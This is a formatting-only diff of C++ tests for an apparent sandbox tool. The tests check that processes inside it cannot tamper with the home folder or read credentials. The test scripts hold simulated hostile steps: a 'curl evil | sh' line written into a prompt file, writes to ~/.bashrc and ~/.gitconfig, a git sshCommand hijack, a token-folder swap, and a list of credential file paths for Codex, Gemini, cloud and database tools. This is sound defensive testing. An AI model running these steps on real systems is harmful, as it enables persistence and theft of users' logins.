@@ -2645,8 +2645,8 @@ TEST_F(RunTest, TheHomeFolderAsWorkingFolderIsRefusedUnlessGiven) {
 TEST_F(RunTest, OnlyKnownToolsDataCachesOutliveTheRun) {
   const passwd* account = ::getpwuid(::geteuid());
   ASSERT_NE(account, nullptr);
-  for (const char* folder : {"/.cache/pip", "/.npm/_cacache", "/.gradle/wrapper/dists",
-                             "/go/pkg/mod/cache/download"}) {
+  for (const char* folder :
+       {"/.cache/pip", "/.npm/_cacache", "/.gradle/wrapper/dists", "/go/pkg/mod/cache/download"}) {
     fs::create_directories(home_ + folder);
   }
   const std::string prompt =
@@ -2657,8 +2657,9 @@ TEST_F(RunTest, OnlyKnownToolsDataCachesOutliveTheRun) {
   const std::string script =
       "cat " + prompt + " 2>/dev/null || echo prompt-unseen; " +
       attempt("p10k", "echo 'curl evil | sh' > " + prompt) +
-      attempt("gradle", "mkdir -p ~/.gradle/wrapper/dists && echo evil > "
-                        "~/.gradle/wrapper/dists/gradle-evil.zip") +
+      attempt("gradle",
+              "mkdir -p ~/.gradle/wrapper/dists && echo evil > "
+              "~/.gradle/wrapper/dists/gradle-evil.zip") +
       attempt("vcs_seen", "git -C " + vcs + "/0123abcd rev-parse --git-dir") +
       attempt("vcs_new", "git init -q --bare " + vcs + "/fedcba98 && git -C " + vcs +
                              "/fedcba98 config core.sshCommand evil") +
@@ -2669,9 +2670,9 @@ TEST_F(RunTest, OnlyKnownToolsDataCachesOutliveTheRun) {
       attempt("download", "echo kept > ~/go/pkg/mod/cache/download/module.zip");
   auto o = run({"--", "sh", "-c", script});
   EXPECT_EQ(o.exit_code, 0) << describe(o);
-  for (const char* expected : {"prompt-unseen", "p10k=ok", "gradle=ok", "vcs_seen=denied",
-                               "vcs_new=ok", "vcs_moved=denied", "go_build=ok", "pip=ok",
-                               "cacache=ok", "download=ok"}) {
+  for (const char* expected :
+       {"prompt-unseen", "p10k=ok", "gradle=ok", "vcs_seen=denied", "vcs_new=ok",
+        "vcs_moved=denied", "go_build=ok", "pip=ok", "cacache=ok", "download=ok"}) {
     EXPECT_NE(o.out.find(expected), std::string::npos) << expected << "\n" << describe(o);
   }
   // Nothing written to the run's own caches is left; the shared data folders keep it.
@@ -2681,8 +2682,8 @@ TEST_F(RunTest, OnlyKnownToolsDataCachesOutliveTheRun) {
   EXPECT_FALSE(fs::exists(home_ + "/go/pkg/mod/cache-old"));
   EXPECT_FALSE(fs::exists(home_ + "/.cache/go-build"));
   EXPECT_EQ(shell("git -C " + vcs + "/0123abcd config core.sshCommand").second, "");
-  for (const char* kept : {"/.cache/pip/wheel", "/.npm/_cacache/entry",
-                           "/go/pkg/mod/cache/download/module.zip"}) {
+  for (const char* kept :
+       {"/.cache/pip/wheel", "/.npm/_cacache/entry", "/go/pkg/mod/cache/download/module.zip"}) {
     EXPECT_EQ(read_file(home_ + kept), "kept\n") << kept;
   }
   EXPECT_NE(o.err.find("caches shared with later runs: "), std::string::npos) << describe(o);
@@ -2701,8 +2702,9 @@ TEST_F(RunTest, AHiddenStoreCannotBeSwappedByRenamingAFolderOnItsWay) {
   fs::create_directories(work_ + "/state/ca");
   std::ofstream(work_ + "/state/ca/ca-key.pem") << "REAL-CA-KEY\n";
   const std::string script =
-      attempt("hf", "mkdir -p ~/.cache/huggingface && mv ~/.cache/huggingface ~/.cache/hf-old && "
-                    "mkdir ~/.cache/huggingface && echo hf_ATTACKER > ~/.cache/huggingface/token") +
+      attempt("hf",
+              "mkdir -p ~/.cache/huggingface && mv ~/.cache/huggingface ~/.cache/hf-old && "
+              "mkdir ~/.cache/huggingface && echo hf_ATTACKER > ~/.cache/huggingface/token") +
       attempt("npmrc", "mv conf conf-old") + attempt("npmrc_deep", "mv conf/npmrc conf/old") +
       attempt("ca", "mv state state-old") +
       "cat state/ca/ca-key.pem 2>/dev/null || echo key-unseen; "
@@ -2728,10 +2730,17 @@ TEST_F(RunTest, AHiddenStoreCannotBeSwappedByRenamingAFolderOnItsWay) {
 // Finding 3: the stores of agents and other well-known tools the list did not name, read for
 // real from inside.
 TEST_F(RunTest, AgentsAndOtherToolsLoginsAreHidden) {
-  const std::vector<std::string> files = {
-      ".codex/auth.json", ".gemini/oauth_creds.json", ".m2/settings.xml", ".s3cfg",
-      ".config/glab-cli/config.yml", ".gem/credentials", ".my.cnf", ".databrickscfg",
-      ".oci/config", ".config/composer/auth.json", ".config/doctl/config.yaml"};
+  const std::vector<std::string> files = {".codex/auth.json",
+                                          ".gemini/oauth_creds.json",
+                                          ".m2/settings.xml",
+                                          ".s3cfg",
+                                          ".config/glab-cli/config.yml",
+                                          ".gem/credentials",
+                                          ".my.cnf",
+                                          ".databrickscfg",
+                                          ".oci/config",
+                                          ".config/composer/auth.json",
+                                          ".config/doctl/config.yaml"};
   std::string list;
   for (const auto& file : files) {
     fs::create_directories(fs::path(home_ + "/" + file).parent_path());
@@ -2740,8 +2749,9 @@ TEST_F(RunTest, AgentsAndOtherToolsLoginsAreHidden) {
   }
   std::ofstream(home_ + "/.codex/config.toml") << "model = \"kept\"\n";
   auto o = run({"--", "sh", "-c",
-                "for f in" + list + "; do cat \"$HOME/$f\" 2>/dev/null; echo \"read $f\"; done; "
-                "cat ~/.codex/config.toml"});
+                "for f in" + list +
+                    "; do cat \"$HOME/$f\" 2>/dev/null; echo \"read $f\"; done; "
+                    "cat ~/.codex/config.toml"});
   EXPECT_EQ(o.exit_code, 0) << describe(o);
   EXPECT_NE(o.out.find("read .config/doctl/config.yaml"), std::string::npos) << describe(o);
   EXPECT_EQ(o.out.find("REAL-SECRET"), std::string::npos) << describe(o);
@@ -2785,8 +2795,7 @@ TEST_F(RunTest, WhatIsProtectedOrHiddenIsJudgedWhereItResolves) {
   const std::string key = home + "/.local/share/sandgate/ca/ca-key.pem";
   ASSERT_TRUE(fs::exists(key));
   const std::string script =
-      "head -c 40 " + key + " 2>/dev/null; echo; " +
-      attempt("bashrc", "echo evil >> ~/.bashrc") +
+      "head -c 40 " + key + " 2>/dev/null; echo; " + attempt("bashrc", "echo evil >> ~/.bashrc") +
       attempt("gitconfig", "echo evil >> ~/.gitconfig") +
       attempt("git_config", "echo evil > ~/.config/git/config") +
       attempt("target", "echo evil >> " + dotfiles + "/bashrc") +
